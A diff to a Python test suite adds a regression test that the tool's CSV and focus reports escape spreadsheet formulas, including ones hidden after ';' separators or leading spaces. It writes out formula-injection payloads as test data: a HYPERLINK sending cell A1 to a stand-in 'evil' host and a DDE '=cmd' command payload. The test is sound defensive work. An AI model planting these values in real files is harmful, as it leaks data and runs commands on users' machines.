@@ -60,6 +60,33 @@ def test_report_csv_and_focus_never_hand_a_spreadsheet_a_formula(home: Path) -> 
         assert any(c.startswith("'=HYPERLINK") or c.startswith("'-host") for c in cells)
 
 
+def formula_cells(text: str) -> list[str]:
+    """Cells of a CSV a spreadsheet would run: split at commas as a CSV, and at every ';'
+    quoted or not (Excel where ';' is the list separator), after leading spaces and a quote."""
+    import csv
+    import io
+
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    cells += [piece for line in text.splitlines() for piece in line.split(";")[1:]]
+    return [c for c in cells if c.lstrip(" ").lstrip('"').lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+HOSTILE_NAMES = ("x;=HYPERLINK(\"http://evil/?\"&A1)", " =1+1", "a, -2+3", "y; @SUM(1)", "=cmd|' /C calc'!A0")
+
+
+def test_report_csv_and_focus_never_hand_a_spreadsheet_a_formula_after_a_separator_or_a_space(home: Path) -> None:
+    # Only a leading = + - @ was escaped: Excel with ';' as its list separator splits a
+    # comma-separated file at every ';', so "x;=HYPERLINK(…)" made a formula cell there.
+    from tests.test_cli_hostile import _row, _seed
+
+    _seed(home, *[_row(name, "api.openai.com", "0.01") for name in HOSTILE_NAMES])
+    for args in (("report", "--csv"), ("report", "--format", "focus")):
+        done = run_cli(home, *args)
+        assert done.returncode == 0, done.stderr
+        assert formula_cells(done.stdout) == [], args
+        assert "x;'=HYPERLINK" in done.stdout
+
+
 def test_a_websocket_upstream_that_never_finishes_a_response_holds_bounded_state() -> None:
     # Every response.created was kept until its response.done: an upstream sending only
     # "created" events (with megabyte ids) grew the daemon without limit.
